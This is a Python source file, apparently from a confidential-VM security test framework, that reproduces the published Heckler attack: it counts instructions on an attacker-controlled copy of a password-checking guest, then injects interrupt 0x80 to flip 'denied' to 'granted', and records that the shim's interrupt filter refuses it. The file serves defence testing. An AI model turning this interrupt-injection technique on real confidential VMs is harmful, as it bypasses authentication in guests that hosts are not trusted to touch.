"""Scenario 9 — malicious interrupt injection (Heckler, USENIX Security 2024).

The victim is ``password``.  Its runtime has a legacy system-call gate at vector 0x80
whose handler writes -38 into the interrupted context's rax, as Linux's int 0x80 gate
writes its result.  ``check_password`` returns its verdict in eax and ``main`` tests it
at the very next instruction: a 0x80 injected on exactly that boundary turns "denied"
(eax = 0) into "granted" (eax = -38), the Heckler attack on sudo/OpenSSH.

Finding the boundary without seeing RIP (sev-es, snp): the attacker launches its OWN copy
of the public image at ``plain`` (no secret), feeds the line "\\x01" and single-steps
(quantum 1) from the completion of the input request until RIP leaves
``check_password``: that many instructions.  A one-byte line differs in length from any
password, so ``check_password`` returns at its length test and the count does not depend
on the victim's secret.  At the victim the host answers the input request with the same
line, arms the timer with that count, and injects 0x80 when the timer fires.

Stopped at ``shim``: the host only rings a doorbell; the interrupt filter delivers only
vectors the guest registered (0x80 is not), never 0-31, and records every refusal — the
attacker's second try with an exception vector (13) is refused too.
"""

from __future__ import annotations

from tvmm.abi.messages import ExitRecord
from tvmm.abi.types import ExitReason, Field
from tvmm.host.devices import InputDevice
from tvmm.host.hypervisor import Devices, HonestHypervisor
from tvmm_tools.attacks.base import Attack, AttackContext, Outcome, needs_symbols
from tvmm_tools.attacks.calibrate import (
    MAX_STEPS,
    finish,
    is_input_request,
    launch_own_copy,
    symbol_range,
)

PROBE = b"\x01"  # mismatches every password at its length test
SYSCALL_GATE = 0x80
VECTORS = (SYSCALL_GATE, 13)  # the syscall gate, then a #GP-style exception vector


class _Calibrator(HonestHypervisor):
    """Own copy at plain: count instructions from the input completion to the return
    of ``check_password``."""

    def __init__(self, client, devices: Devices, check: range) -> None:
        super().__init__(client, devices)
        self.check = check
        self.stepping = False
        self.steps = 0
        self.prev_rip: int | None = None
        self.count: int | None = None

    def on_exit(self, rec: ExitRecord) -> bool:
        if self.stepping:
            if rec.reason != ExitReason.TIMER or self.steps >= MAX_STEPS:
                return False  # the path left the expected course: give up
            self.steps += 1
            rip = rec.get(Field.RIP)
            if self.prev_rip in self.check and rip not in self.check:
                self.count = self.steps
                return False
            self.prev_rip = rip
            return True
        served = super().on_exit(rec)
        if is_input_request(rec):
            self.stepping, self.quantum = True, 1
        return served


class _Injector(HonestHypervisor):
    """The victim's host: honest, except that after each input request it arms the
    timer with the calibrated count and injects at the next exit."""

    def __init__(self, client, devices: Devices, count: int, record) -> None:
        super().__init__(client, devices)
        self.count = count
        self.record = record
        self.armed = False
        self.tries = 0
        self.injected: list[int] = []

    def on_exit(self, rec: ExitRecord) -> bool:
        if self.armed:
            self.armed, self.quantum = False, 0
            vector = VECTORS[self.tries - 1]
            self.client.inject(self.vm, vector)  # a doorbell at shim: OK, maybe refused
            self.injected.append(vector)
            self.record("inject", vector=vector, exit=rec.reason.name.lower(), seq=rec.seq)
            if rec.reason == ExitReason.TIMER:
                return True
        served = super().on_exit(rec)
        if is_input_request(rec) and self.tries < len(VECTORS):
            self.tries += 1
            self.armed, self.quantum = True, self.count
        return served


class InterruptInjection(Attack):
    name = "interrupt-injection"
    summary = ("inject int 0x80 right after check_password returns: its handler overwrites "
               "rax and flips denied to granted (Heckler)")
    victims = ("password",)
    kind = "integrity"
    published = ("Heckler (USENIX Security 2024): an injected int 0x80 overwrites rax; "
                 "WeSee (S&P 2024) needed 2,891 injected #VCs for a root shell "
                 "(docs/attacks.md §9)")

    def run(self, ctx: AttackContext) -> Outcome:
        if (na := needs_symbols(ctx, "check_password", why="the compare whose return it interrupts")) is not None:
            return na
        count, calib_exits = self.calibrate(ctx)
        outcome = Outcome(notes={"count": count})
        if count is None:
            outcome.notes["detail"] = "calibration on the attacker's own copy failed"
            return outcome
        ctx.record("calibrated", count=count)
        lines = [PROBE] * len(VECTORS)
        host = _Injector(ctx.client, Devices(input=InputDevice(lines)), count, ctx.record)
        ctx.launch(host)
        result = host.run()
        granted = "granted" in host.devices.console.text
        outcome.hosts.append(host)
        outcome.exits = sum(host.exits.values()) + calib_exits
        outcome.notes.update(injected=host.injected, how=result.how)
        if granted:
            outcome.notes["detail"] = (f"0x80 injected {count} instructions after the input "
                                       f"completed: the probe line was granted")
        else:
            outcome.notes["blocked"] = True
            outcome.notes["detail"] = (f"vectors {', '.join(hex(v) for v in host.injected)} "
                                       "were injected but the guest still said denied")
        return outcome

    @staticmethod
    def calibrate(ctx: AttackContext) -> tuple[int | None, int]:
        cal = _Calibrator(ctx.client, Devices(input=InputDevice([PROBE])),
                          symbol_range(ctx, "check_password"))
        launch_own_copy(ctx, cal)
        cal.run(max_exits=MAX_STEPS + 100)
        finish(cal)
        return cal.count, sum(cal.exits.values())
